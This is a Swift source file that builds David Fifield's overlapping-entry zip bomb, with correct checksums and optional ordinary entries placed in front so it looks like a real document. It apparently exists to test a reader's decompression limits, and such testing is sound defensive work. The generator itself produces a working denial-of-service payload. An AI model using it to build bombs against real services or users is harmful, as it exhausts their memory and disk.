/// David Fifield's "better zip bomb" (USENIX WOOT 2019): many central-directory entries whose
/// data overlap. Each entry's deflate stream begins with a stored block that quotes the next
/// entry's local header, so every entry decompresses to the headers after it followed by one
/// shared kernel: the file holds the kernel once, a reader that inflates every entry gets it
/// `count` times. Local headers agree with the central directory, names are distinct and every
/// checksum is right, so only the limits on what is actually produced can stop it.
public enum OverlapBomb {
    /// - Parameters:
    ///   - prefix: ordinary stored entries written first (the parts of a real document).
    ///   - count: overlapping entries, named by `name`.
    ///   - kernel: a final raw deflate stream that inflates to `kernelSize` bytes with `kernelCRC`.
    public static func build(prefix: [RawZip.Entry], count: Int, kernel: [UInt8], kernelSize: Int, kernelCRC: UInt32,
                             name: (Int) -> String) -> [UInt8] {
        precondition(count >= 1)
        let names = (0..<count).map { Array(name($0).utf8) }
        // From the last entry back: crc, compressed and uncompressed size of each.
        var crc = [UInt32](repeating: 0, count: count)
        var compressed = [Int](repeating: 0, count: count)
        var size = [Int](repeating: 0, count: count)
        var headers = [[UInt8]](repeating: [], count: count)
        crc[count - 1] = kernelCRC
        compressed[count - 1] = kernel.count
        size[count - 1] = kernelSize
        headers[count - 1] = localHeader(names[count - 1], method: 8, crc: kernelCRC, compressed: kernel.count, size: kernelSize)
        for i in stride(from: count - 2, through: 0, by: -1) {
            let next = headers[i + 1]
            compressed[i] = 5 + next.count + compressed[i + 1]
            size[i] = next.count + size[i + 1]
            crc[i] = CRC32.combine(CRC32.checksum(next), crc[i + 1], size[i + 1])
            headers[i] = localHeader(names[i], method: 8, crc: crc[i], compressed: compressed[i], size: size[i])
        }

        var out: [UInt8] = []
        var central: [UInt8] = []
        for entry in prefix {
            let entryCRC = entry.crc ?? CRC32.checksum(entry.data)
            let entrySize = Int(entry.uncompressedSize ?? UInt32(entry.data.count))
            central += centralHeader(entry.name, method: entry.method, crc: entryCRC, compressed: entry.data.count, size: entrySize,
                                     offset: out.count)
            out += localHeader(entry.name, method: entry.method, crc: entryCRC, compressed: entry.data.count, size: entrySize)
            out += entry.data
        }
        for i in 0..<count {
            central += centralHeader(names[i], method: 8, crc: crc[i], compressed: compressed[i], size: size[i], offset: out.count)
            out += headers[i]
            if i + 1 < count {
                // A non-final stored block quoting the next local header.
                let length = UInt16(headers[i + 1].count)
                out.append(0)
                out.le16(length)
                out.le16(~length)
            }
        }
        out += kernel
        out.endOfCentralDirectory(central: central, count: prefix.count + count)
        return out
    }

    static func localHeader(_ name: [UInt8], method: UInt16, crc: UInt32, compressed: Int, size: Int) -> [UInt8] {
        var out: [UInt8] = []
        out.le32(0x0403_4B50)
        out.le16(20)
        out.le16(0x0800)
        out.le16(method)
        out.le16(0)
        out.le16(0x21)
        out.le32(crc)
        out.le32(UInt32(compressed))
        out.le32(UInt32(size))
        out.le16(UInt16(name.count))
        out.le16(0)
        return out + name
    }

    static func centralHeader(_ name: [UInt8], method: UInt16, crc: UInt32, compressed: Int, size: Int, offset: Int) -> [UInt8] {
        var out: [UInt8] = []
        out.le32(0x0201_4B50)
        out.le16(0x031E)
        out.le16(20)
        out.le16(0x0800)
        out.le16(method)
        out.le16(0)
        out.le16(0x21)
        out.le32(crc)
        out.le32(UInt32(compressed))
        out.le32(UInt32(size))
        out.le16(UInt16(name.count))
        out.le16(0)
        out.le16(0)
        out.le16(0)
        out.le16(0)
        out.le32(0o100644 << 16)
        out.le32(UInt32(offset))
        return out + name
    }
}
